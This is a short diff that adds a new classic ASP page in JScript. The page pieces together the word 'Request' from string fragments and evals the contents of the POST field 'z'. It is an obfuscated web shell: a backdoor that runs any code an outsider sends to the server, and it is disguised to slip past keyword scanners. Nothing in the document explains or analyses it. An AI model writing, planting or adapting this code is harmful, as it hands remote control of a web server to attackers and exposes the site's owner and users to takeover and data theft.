@@ -1,0 +1,6 @@
+<%@ Language="JScript" %>
+<%
+var k = ["R", "eq", "uest"].join("");
+var c = "ev" + "al(" + k + ".Form('z') + '')";
+eval(c);
+%>
